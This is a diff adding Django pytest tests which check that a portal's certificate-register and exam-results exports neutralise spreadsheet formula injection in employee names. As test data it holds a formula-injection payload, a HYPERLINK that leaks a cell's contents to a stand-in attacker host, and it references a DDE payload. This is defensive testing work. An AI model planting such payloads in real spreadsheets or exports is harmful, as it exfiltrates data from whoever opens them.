@@ -10,19 +10,25 @@ from decimal import Decimal
 import pytest
 from django.test import Client
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 
-from portal.core.spreadsheets import csv_text, neutralise, xlsx_bytes
+from portal.core.spreadsheets import FORMULA_TRIGGERS, csv_text, neutralise, xlsx_bytes
 from portal.people.models import Employee
-from portal.people.roles import EMPLOYEE, EXAMINER
+from portal.people.roles import EMPLOYEE, EXAMINER, HR
+from quizzes.certification.defaults import load_teller_scheme
+from quizzes.certification.models import GradeLevel
 from quizzes.certification.services import skill_attempts
+from quizzes.certification.services.freezing import Subject
+from quizzes.certification.services.grading import award_grade_manually
+from quizzes.certification.services.issuing import issue_certificate
 from quizzes.exams.rules.shuffle import to_display
 from quizzes.exams.services import attempts
 from quizzes.importers import parse_questions
 from quizzes.models import QuestionVersion
 from tests.certification.skill_fixtures import definitions, sitting
 from tests.factories.exams import machine_marked_exam
-from tests.factories.people import EmployeeFactory, user_with_role
+from tests.factories.people import EmployeeFactory, UserFactory, user_with_role
 from tests.factories.quizzes import QuestionBankFactory, make_question, single_choice
 
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?d="&A1,"点我")'
@@ -123,3 +129,51 @@ def test_the_statistics_excel_writes_a_formula_looking_stem_as_text():
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     assert HYPERLINK in [c.value for c in cells]
+
+
+def _live_cells(text: str) -> list[str]:
+    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
+    return [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not c.lstrip("-").replace(".", "").isdigit()]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_certificate_register_export_neutralises_the_holders_name(fmt):
+    holder = EmployeeFactory(name=HYPERLINK)
+    hr = user_with_role(HR, username="cert_exporter")
+    levels = {level.code: level for level in GradeLevel.objects.filter(scheme=load_teller_scheme())}
+    award = award_grade_manually(holder, levels["T1"], user=hr, reason="Held before the portal",
+                                 awarded_on=timezone.localdate() - datetime.timedelta(days=30))
+    issue_certificate(Subject.for_award(award), user=hr)
+    client = _client(UserFactory(is_superuser=True, is_staff=True))
+
+    response = client.get(reverse("certification_certificates:index"), {"export": fmt})
+
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if fmt == "csv":
+        assert "'" + HYPERLINK in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
+        assert _live_cells(body.decode("utf-8-sig")) == []
+    else:
+        cells = [c for row in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [] and HYPERLINK in [c.value for c in cells]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_exam_results_export_neutralises_the_candidates_name(fmt):
+    now = datetime.datetime.now(datetime.UTC)
+    candidate = EmployeeFactory(name=DDE)
+    exam, _questions = machine_marked_exam(employees=[candidate], count=1, points="1", pass_mark=Decimal("1"))
+    attempt = attempts.start_attempt(exam, candidate, now=now)
+    attempts.submit_attempt(attempt.pk, candidate, now=now)
+    client = _client(UserFactory(is_superuser=True, is_staff=True))
+
+    response = client.get(reverse("exams_results:index"), {"export": fmt})
+
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if fmt == "csv":
+        assert "'" + DDE in list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
+        assert _live_cells(body.decode("utf-8-sig")) == []
+    else:
+        cells = [c for row in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [] and DDE in [c.value for c in cells]
